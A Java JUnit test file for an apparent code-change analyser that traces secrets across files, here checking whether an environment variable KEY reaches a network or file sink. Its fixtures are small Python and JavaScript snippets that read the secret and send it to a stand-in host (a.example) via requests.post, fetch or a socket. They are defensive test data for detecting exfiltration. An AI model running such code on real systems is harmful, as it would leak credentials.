package dev.portcullis.modification;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CarriedTest {
    private static final String SECRET = "import os⏎KEY = os.environ['KEY']⏎";
    private static final String SENDER =
            "import requests⏎def send(what, to='x'):⏎ requests.post('https://a.example', json=what)⏎";
    private static final String SENT = "carried packing/b.py";

    private final MemoryBlobStore blobs = new MemoryBlobStore();
    private final Charter charter = Charters.full();

    /** What is carried in {@code result} that is not where both files do nothing with each other. */
    private List<String> carried(Map<String, String> result) {
        Tree base = tree(Map.of("a.py", SECRET, "b.py", SENDER));
        return FactFinders.here().find(charter, base, base, tree(result), blobs).fromBase().powersAdded().stream()
                .filter(finding -> finding.kind().equals("carried"))
                .map(finding -> finding.kind() + " " + finding.at() + " " + finding.was())
                .toList();
    }

    private Tree tree(Map<String, String> files) {
        List<String> all = new ArrayList<>(List.of("harness/score.py", "print(1)\n"));
        new TreeMap<>(files).forEach((path, text) -> {
            all.add("packing/" + path);
            all.add(text.replace("⏎", "\n"));
        });
        return Trees.of(blobs, all.toArray(String[]::new));
    }

    private List<String> carriedBy(String main) {
        return carried(Map.of("a.py", SECRET, "b.py", SENDER, "main.py", main));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
        from packing.a import KEY⏎from packing.b import send⏎send(KEY)
        from packing.a import KEY as k⏎from packing.b import send as s⏎s({"n": [1, k[:4]]})
        from . import a, b⏎b.send(what=a.KEY)
        import packing.a, packing.b⏎packing.b.send(f"{packing.a.KEY}!")
        from packing.a import *⏎from packing.b import *⏎send(KEY)
        from a import KEY⏎import b⏎go = b.send⏎go(KEY.encode().hex())
        from a import KEY⏎import b⏎def twice(x):⏎ return x + x⏎b.send(twice(KEY))
        from a import KEY⏎import b⏎class C:⏎ def __init__(self, t):⏎  self.t = t⏎b.send(C(KEY).t)
        from a import KEY⏎import b⏎all = []⏎all.append(KEY)⏎b.send(all)
        from a import KEY⏎import b⏎b.send([c for c in KEY if c])
        from a import KEY⏎import b⏎def go():⏎ global held⏎ held = KEY⏎def out():⏎ b.send(held)
        from a import KEY⏎import b⏎args = (KEY,)⏎b.send(*args)
        from a import KEY⏎import b⏎b.send((n := KEY) and 1 and n)
        from a import KEY⏎import b⏎def g():⏎ yield KEY⏎for x in g():⏎ b.send(x)
        import a, b⏎b.send(getattr(a, "KEY"))
        import a, b⏎b.send(vars(a)["KEY"]) or b.send(a.KEY)
        import json⏎from a import KEY⏎from b import send⏎send(json.dumps(dict(k=KEY)))
        """)
    void whateverLiesBetweenTheWayIsFound(String main) {
        assertThat(carriedBy(main)).singleElement().asString().startsWith(SENT + ":3 environment KEY to network");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
        from packing.a import KEY⏎from packing.b import send⏎send(len(KEY))
        from packing.a import KEY⏎from packing.b import send⏎if KEY == "x":⏎ send("y")
        from packing.a import KEY⏎from packing.b import send⏎send(1 if KEY else 2)
        import hashlib⏎from a import KEY⏎from b import send⏎send(hashlib.sha256(KEY.encode()).hexdigest())
        from a import KEY⏎from b import send⏎def one(x):⏎ return 1⏎send(one(KEY))
        from a import KEY⏎from b import send⏎print(KEY)⏎send("x")
        import other⏎from b import send⏎send(other.KEY)
        """)
    void whatIsNotCarriedIsNone(String main) {
        assertThat(carriedBy(main)).isEmpty();
    }

    @Test
    void aWayThroughThreeFilesIsTheSameAsInOne() {
        // Given
        String one = SECRET + SENDER + "send(KEY)⏎";

        // Then
        assertThat(carried(Map.of("a.py", one))).hasSize(1);
        assertThat(carried(Map.of(
                        "a.py", SECRET,
                        "b.py", SENDER,
                        "c.py", "from .a import KEY as tag⏎def label():⏎ return tag⏎",
                        "d/__init__.py", "from packing.c import label as name⏎from packing.b import send as out⏎",
                        "e.py", "from packing import d⏎d.out(d.name())⏎")))
                .hasSize(1);
    }

    @Test
    void aHandleThatAnotherFileHoldsIsOneToSendBy() {
        assertThat(carried(Map.of(
                        "a.py", SECRET,
                        "b.py", "import socket⏎line = socket.create_connection(('a.example', 1))⏎",
                        "c.py", "from packing.b import line⏎from packing.a import KEY⏎line.sendall(KEY)⏎")))
                .singleElement()
                .asString()
                .startsWith("carried packing/c.py:3 environment KEY to network");
        assertThat(
                        carried(
                                Map.of(
                                        "a.py", SECRET,
                                        "b.py", "def sink():⏎ return open('/tmp/x', 'w')⏎",
                                        "c.py",
                                                "from packing.b import sink⏎from packing.a import KEY⏎with sink() as f:⏎ f.write(KEY)⏎")))
                .singleElement()
                .asString()
                .startsWith("carried packing/c.py:4 environment KEY to file");
    }

    @Test
    void whatIsBroughtInByAnotherFileHasItsPowerStill() {
        assertThat(carried(Map.of(
                        "a.py", SECRET,
                        "b.py", "from requests import post as tell⏎",
                        "c.py", "from packing import a, b⏎b.tell('https://a.example', data=a.KEY)⏎")))
                .singleElement()
                .asString()
                .startsWith("carried packing/c.py:2 environment KEY to network");
    }

    @Test
    void scriptsOfAnotherLanguageAreFollowedAsFarAsTheirFormGoes() {
        assertThat(carried(Map.of(
                        "a.js", "export const key = process.env.KEY;⏎",
                        "b.js", "export function send(x) { return fetch('https://a.example', {body: x}); }⏎",
                        "c.js", "import {key} from './a.js';⏎import {send} from './b.js';⏎send(key);⏎")))
                .anyMatch(found -> found.startsWith("carried packing/b.js:1 environment KEY to network"));
    }

    @Test
    void whatIsMoreThanIsFollowedIsNotAnalysed() {
        // Given more that leads to more than any file of a person
        StringBuilder text = new StringBuilder();
        for (int number = 0; number < 70; number++) {
            text.append("def f")
                    .append(number)
                    .append("(a, b):⏎ G")
                    .append(number)
                    .append(" = a⏎ return a, b⏎");
        }
        text.append("def mix(x):⏎");
        for (int number = 0; number < 70; number++) {
            text.append(" global G")
                    .append(number)
                    .append("⏎ x = (x, G")
                    .append(number)
                    .append(")⏎ G")
                    .append(number)
                    .append(" = x⏎");
        }

        // When
        Tree base = tree(Map.of("a.py", SECRET, "b.py", SENDER));
        Facts facts = FactFinders.here()
                .find(
                        charter,
                        base,
                        base,
                        tree(Map.of("a.py", SECRET, "b.py", SENDER, "m.py", text.toString())),
                        blobs);

        // Then
        assertThat(facts.fromBase().analyzed()).isFalse();
        assertThat(facts.modificationClass()).isEqualTo(ModificationClass.OVERSIGHT);
    }
}
